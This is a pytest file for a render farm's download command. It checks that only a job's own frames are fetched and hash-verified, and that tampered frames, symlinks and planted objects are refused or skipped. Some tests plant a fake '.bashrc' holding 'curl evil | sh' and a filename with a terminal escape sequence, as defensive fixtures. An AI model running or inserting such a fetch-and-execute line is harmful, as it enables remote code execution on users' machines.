"""`farm download` fetches only the job's own outputs, as its database row names them, each
checked against the SHA-256 recorded with it: objects planted beside the frames (a dot file, a
frame's name in a subfolder, a directory marker) neither land in DEST nor stop the download,
and a frame whose bytes were changed in storage is refused. On S3 (the test SeaweedFS) and
file://, with the job's rows in a real SQLite database and its objects stored the way the farm
stores them (a worker's upload with its SHA-256, the manager's copy to the final key)."""

from __future__ import annotations

import hashlib
import os
import secrets
from pathlib import Path

import pytest
from conftest import farm_env, run_farm, s3_settings

from renderfarm import lifecycle
from renderfarm.config import load_settings
from renderfarm.db import make_engine, session_scope, upgrade
from renderfarm.models import Job
from renderfarm.planning import plan_tasks
from renderfarm.storage import open_storage
from renderfarm.storage.keys import attempt_prefix, frame_key, frames_prefix, tile_key, tiles_prefix

JOB = "dddd0001"
FRAMES = [1, 2, 3, 4, 5]
SHA = "ab" * 32


def add_job(settings, *, tiles: str | None = None, tile_count: int = 0) -> None:
    """The job's rows, as the manager writes them: name `x`, frames 1-5, 64x48 PNG."""
    engine = make_engine(settings.database_url, writer=True)
    upgrade(engine)
    job = Job(id=JOB, name="x", owner="artist", renderer="builtin", scene_name="s.toml",
              scene_key=f"scenes/{SHA}.toml", scene_sha256=SHA, frames="1-5", frame_count=5, chunk=1,
              width=64, height=48, submitted_at=1.0, tiles=tiles, tile_count=tile_count, keep_tiles=bool(tiles))
    with session_scope(engine) as s:
        lifecycle.create_job(s, job, plan_tasks("1-5", 1, 1000, tile_count))
    engine.dispose()


def store(storage, tmp_path: Path, final_key: str, data: bytes) -> str:
    """Upload as a worker does (with our SHA-256) and promote as the manager does (a copy)."""
    digest = hashlib.sha256(data).hexdigest()
    source = tmp_path / "upload.bin"
    source.write_bytes(data)
    attempt_key = attempt_prefix("node-1", JOB, 0, 1) + final_key.rsplit("/", 1)[-1]
    storage.put_file(attempt_key, source, sha256=digest)
    storage.copy(attempt_key, final_key)
    return digest


def frame_bytes(frame: int) -> bytes:
    return b"\x89PNG frame %d " % frame + secrets.token_bytes(2000)


def file_backend(tmp_path: Path):
    """Settings for a file:// store, and plant(key, data, sha256=None), which puts an object the
    way a node with write access to the tree could, bypassing the storage API and its checks."""
    root = tmp_path / "store"
    env = {"FARM_STATE_DIR": str(tmp_path / "state"), "FARM_STORAGE_URL": f"file://{root}"}

    def plant(key: str, data: bytes, sha256: str | None = None) -> None:
        path = root / key
        if key.endswith("/"):
            path.mkdir(parents=True, exist_ok=True)
            return
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)  # a new file: nothing recorded with it unless said so
        path.write_bytes(data)
        if sha256:
            from renderfarm.storage.files import SHA256_XATTR

            os.setxattr(path, SHA256_XATTR, sha256.encode())

    return load_settings(env, cwd=tmp_path), plant


def s3_backend(server, tmp_path: Path):
    """The same on the test SeaweedFS, in a bucket of its own."""
    from test_storage import raw_s3

    bucket = f"dl-{secrets.token_hex(4)}"
    raw = raw_s3(server)

    def plant(key: str, data: bytes, sha256: str | None = None) -> None:
        raw.put_object(Bucket=bucket, Key=key, Body=data, Metadata={"sha256": sha256} if sha256 else {})

    return s3_settings(server, tmp_path / "state", bucket), plant


def with_frames(settings, tmp_path: Path) -> dict[int, str]:
    """The job's rows and its five frames, stored the farm's way; their SHA-256s by frame."""
    storage = open_storage(settings)
    storage.check()
    add_job(settings)
    return {f: store(storage, tmp_path, frame_key(JOB, "x", f, "png"), frame_bytes(f)) for f in FRAMES}


@pytest.fixture(params=["file", "s3"])
def farm(request, tmp_path: Path):
    """(settings, plant, digests) of a job whose five frames are in storage, on either backend."""
    if request.param == "file":
        settings, plant = file_backend(tmp_path)
    else:
        settings, plant = s3_backend(request.getfixturevalue("seaweed"), tmp_path)
    return settings, plant, with_frames(settings, tmp_path)


def download(settings, job_id: str, dest: Path, *, tiles: bool = False):
    from renderfarm.downloads import download

    return download(settings, job_id, dest, tiles=tiles)


def files_in(dest: Path) -> list[str]:
    return sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*"))


def test_planted_objects_are_skipped_and_the_real_frames_all_arrive(farm, tmp_path: Path) -> None:
    settings, plant, digests = farm
    # zz/x.0002.png sorts after the real x.0002.png: fetched by its base name, it would replace it.
    planted = [f"{frames_prefix(JOB)}{name}" for name in (".bashrc", "sub/x.0001.png", "zz/x.0002.png", "evil/")]
    for key in planted:
        plant(key, b"" if key.endswith("/") else b"6bytes")
    dest = tmp_path / "dest"
    result = download(settings, JOB, dest)
    names = [f"x.{f:04d}.png" for f in FRAMES]
    assert files_in(dest) == names
    assert [hashlib.sha256((dest / n).read_bytes()).hexdigest() for n in names] == [digests[f] for f in FRAMES]
    assert result.paths == [dest / n for n in names]
    assert (result.expected, result.missing, result.failed) == (5, [], [])
    # A directory marker is an object on S3 only; on disk it is an empty folder, not listed.
    shown = sorted(planted) if settings.storage_url.startswith("s3") else sorted(planted[:3])
    assert result.skipped == shown


def test_a_frame_changed_in_storage_is_refused_and_the_rest_arrive(farm, tmp_path: Path) -> None:
    settings, plant, digests = farm
    dest = tmp_path / "dest"
    dest.mkdir()
    stale = b"an older render of frame 4".ljust(len(frame_bytes(4)), b".")
    (dest / "x.0004.png").write_bytes(stale)
    # Frame 2's bytes replaced under its recorded SHA-256; frame 3 replaced with none recorded.
    key2, key3 = frame_key(JOB, "x", 2, "png"), frame_key(JOB, "x", 3, "png")
    plant(key2, b"tampered" + frame_bytes(2)[8:], digests[2])
    plant(key3, b"no digest")
    result = download(settings, JOB, dest)
    assert files_in(dest) == ["x.0001.png", "x.0004.png", "x.0005.png"]
    for f in (1, 4, 5):  # frame 4's stale local file, although of the same size, was replaced
        assert hashlib.sha256((dest / f"x.{f:04d}.png").read_bytes()).hexdigest() == digests[f]
    assert [line.split(":")[0] for line in result.failed] == ["x.0002.png", "x.0003.png"]
    assert result.failed[0].endswith(f"recorded with {key2}: not kept")
    assert f"does not match the {digests[2][:16]}..." in result.failed[0]
    assert result.failed[1] == f"x.0003.png: no SHA-256 is recorded with {key3}: not kept"
    assert (result.missing, result.skipped) == ([], [])


def test_tiles_are_named_from_the_jobs_grid_and_never_written_through_a_link(tmp_path: Path) -> None:
    settings, plant = file_backend(tmp_path)
    storage = open_storage(settings)
    add_job(settings, tiles="2x1", tile_count=2)
    digests = {(f, t): store(storage, tmp_path, tile_key(JOB, "x", f, t, "png"), frame_bytes(10 * f + t))
               for f in (1, 2, 3) for t in (0, 1)}
    planted = [f"{tiles_prefix(JOB)}.bashrc", f"{tiles_prefix(JOB)}x.0001/7.png", f"{tiles_prefix(JOB)}x.0001/sub/0.png"]
    for key in planted:
        plant(key, b"planted")
    dest, outside = tmp_path / "dest", tmp_path / "outside"
    dest.mkdir()
    outside.mkdir()
    (dest / "x.0003").symlink_to(outside)  # a link where frame 3's folder goes
    result = download(settings, JOB, dest, tiles=True)
    assert files_in(dest) == ["x.0001", "x.0001/0.png", "x.0001/1.png", "x.0002", "x.0002/0.png", "x.0002/1.png",
                              "x.0003"]
    for (f, t), digest in digests.items():
        if f < 3:
            assert hashlib.sha256((dest / f"x.{f:04d}/{t}.png").read_bytes()).hexdigest() == digest
    assert list(outside.iterdir()) == []
    assert result.failed == [f"x.0003/{t}.png: {dest}/x.0003 is not a folder (a link?): nothing written through it"
                             for t in (0, 1)]
    assert result.skipped == sorted(planted)
    assert result.missing == [f"x.{f:04d}/{t}.png" for f in (4, 5) for t in (0, 1)]  # not stored (yet)


def test_the_download_command_reports_what_it_skipped_and_fails_on_frames_that_did_not_arrive(tmp_path: Path) -> None:
    settings, plant = file_backend(tmp_path)
    digests = with_frames(settings, tmp_path)
    env = farm_env(tmp_path / "state", FARM_STORAGE_URL=settings.storage_url)
    prefix = frames_prefix(JOB)
    plant(f"{prefix}.bashrc", b"curl evil | sh\n")
    plant(f"{prefix}sub/x.0001.png", b"6bytes")
    plant(f"{prefix}\x1b[2Jx.png", b"a name that clears the screen")
    dest = tmp_path / "dest"

    proc = run_farm("download", "dddd", str(dest), env=env)
    assert proc.stdout == f"5 frames in {dest}\n"
    skipped = [line for line in proc.stderr.splitlines() if line.startswith("skipped")]
    assert skipped == [f"skipped '{prefix}\\x1b[2Jx.png': not one of job {JOB}'s frames",
                       f"skipped '{prefix}.bashrc': not one of job {JOB}'s frames",
                       f"skipped '{prefix}sub/x.0001.png': not one of job {JOB}'s frames"]
    assert "\x1b" not in proc.stderr
    assert sorted(p.name for p in dest.iterdir()) == [f"x.{f:04d}.png" for f in FRAMES]

    # A frame whose bytes changed in storage: the others arrive, the command fails, one line why.
    plant(frame_key(JOB, "x", 2, "png"), b"tampered", digests[2])
    (dest / "x.0002.png").unlink()
    proc = run_farm("download", JOB, str(dest), env=env, check=False)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.splitlines()[-1] == f"farm: download: 1 frame of job {JOB} did not arrive intact"
    assert f"not downloaded: x.0002.png: SHA-256 {hashlib.sha256(b'tampered').hexdigest()[:16]}..." in proc.stderr
    assert not (dest / "x.0002.png").exists()

    # A frame not in storage (not rendered yet): not all arrived, so not a success either.
    open_storage(settings).delete([frame_key(JOB, "x", 2, "png")])
    proc = run_farm("download", JOB, str(dest), env=env, check=False)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[-1] == (
        f"farm: download: 1 of job {JOB}'s 5 frames is not in storage (not rendered yet, or failed): x.0002.png")


@pytest.mark.slow
def test_a_real_farms_frames_download_past_planted_objects(tmp_path: Path) -> None:
    """Frames rendered and promoted by a real farm (SeaweedFS, its workers' uploads) carry the
    SHA-256 the download checks; what a node planted beside them is skipped."""
    from conftest import EXAMPLES
    from faults.livefarm import LiveFarm

    farm = LiveFarm(tmp_path, workers=1)
    farm.up()
    try:
        job = farm.submit(EXAMPLES / "orbit.toml", "--renderer", "null", "--frames", "1-3", "--name", "x")
        assert farm.wait_job(job, 120) == "done"
        storage = farm.storage()
        storage.put_bytes(f"{frames_prefix(job)}.bashrc", b"curl evil | sh\n")
        storage.put_bytes(f"{frames_prefix(job)}sub/x.0001.png", b"6bytes")
        dest = tmp_path / "dest"
        proc = run_farm("download", job, str(dest), env=farm.env)
        assert proc.stdout == f"3 frames in {dest}\n"
        assert [line for line in proc.stderr.splitlines() if line.startswith("skipped")] == [
            f"skipped '{frames_prefix(job)}{name}': not one of job {job}'s frames" for name in (".bashrc", "sub/x.0001.png")]
        assert sorted(p.name for p in dest.iterdir()) == ["x.0001.png", "x.0002.png", "x.0003.png"]
        for f in (1, 2, 3):
            key = frame_key(job, "x", f, "png")
            assert hashlib.sha256((dest / f"x.{f:04d}.png").read_bytes()).hexdigest() == storage.head(key).sha256
    finally:
        farm.down()
